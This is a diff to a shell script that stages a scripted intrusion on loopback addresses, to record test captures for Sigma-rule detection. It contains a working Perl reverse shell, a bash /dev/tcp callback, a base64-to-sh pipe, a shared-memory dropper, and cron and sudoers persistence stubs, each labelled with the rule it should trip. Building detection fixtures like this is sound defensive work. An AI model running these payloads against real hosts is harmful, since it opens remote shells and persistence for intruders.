@@ -2,8 +2,9 @@
 # A scripted intrusion for the Sigma fixtures: behaviours that SigmaHQ's
 # unchanged Linux rules describe, among benign look-alikes. Run under
 # rg-capture as root (scripts/record-sigma-captures.sh does):
-#   rg-capture -o intrusion.rgc --follow -- bash scripts/sigma-intrusion-workload.sh WORKDIR [PORT]
-# WORKDIR must not be under /tmp. Needs local listeners on 127.0.0.2:4444 and
+#   rg-capture -o intrusion.rgc --follow -- bash scripts/sigma-intrusion-workload.sh WORKDIR [PORT [C2ADDR]]
+# WORKDIR must not be under /tmp. Needs local listeners on C2ADDR:4444 (default
+# 127.0.0.2; tests pick another loopback address so parallel runs cannot collide) and
 # 127.0.0.1:PORT (default 18081; an HTTP server for the download). Everything it writes
 # outside WORKDIR (/etc/cron.d, /etc/sudoers.d, /dev/shm, /tmp) holds only
 # comments or copies of /usr/bin/true, and is removed before it exits (with
@@ -11,6 +12,7 @@
 set -u
 work=${1:?workdir}
 port=${2:-18081}
+c2=${3:-127.0.0.2}
 tmp=$(mktemp -d /tmp/rg-sigma.XXXXXX)
 mkdir -p "$work/home"
 sudoers_made=
@@ -31,8 +33,8 @@ bash -c 'echo ZWNobyByZy1zaWdtYS1kZW1vCg== | base64 -d | sh'         # -> Linux 
 cp /usr/bin/true /dev/shm/.rg-sigma-dropper && /dev/shm/.rg-sigma-dropper   # -> Process Execution From Shared Memory Directory
 cp /usr/bin/true "$tmp/update" && "$tmp/update"                     # -> Potentially Suspicious Execution From Tmp Folder
 mkfifo "$tmp/f"                                                     # -> Potentially Suspicious Named Pipe Created Via Mkfifo; Named Pipe Created Via Mkfifo
-exec 4<>/dev/tcp/127.0.0.2/4444 2>/dev/null && exec 4<&-            # -> Linux Reverse Shell Indicator (bash connecting out)
-perl -e 'use Socket;$i="127.0.0.2";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'   # -> Potential Perl Reverse Shell Execution
+exec 4<>/dev/tcp/$c2/4444 2>/dev/null && exec 4<&-            # -> Linux Reverse Shell Indicator (bash connecting out)
+perl -e 'use Socket;$i="'"$c2"'";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'   # -> Potential Perl Reverse Shell Execution
 echo '# rand-guard Sigma demo: no job' > /etc/cron.d/rg-sigma-demo  # -> New Cron File Created
 [ -d /etc/sudoers.d ] || { mkdir -m 750 /etc/sudoers.d && sudoers_made=1; }   # (sudo may not be installed)
 echo '# rand-guard Sigma demo: no rule' > /etc/sudoers.d/rg-sigma-demo   # -> Persistence Via Sudoers.d Files
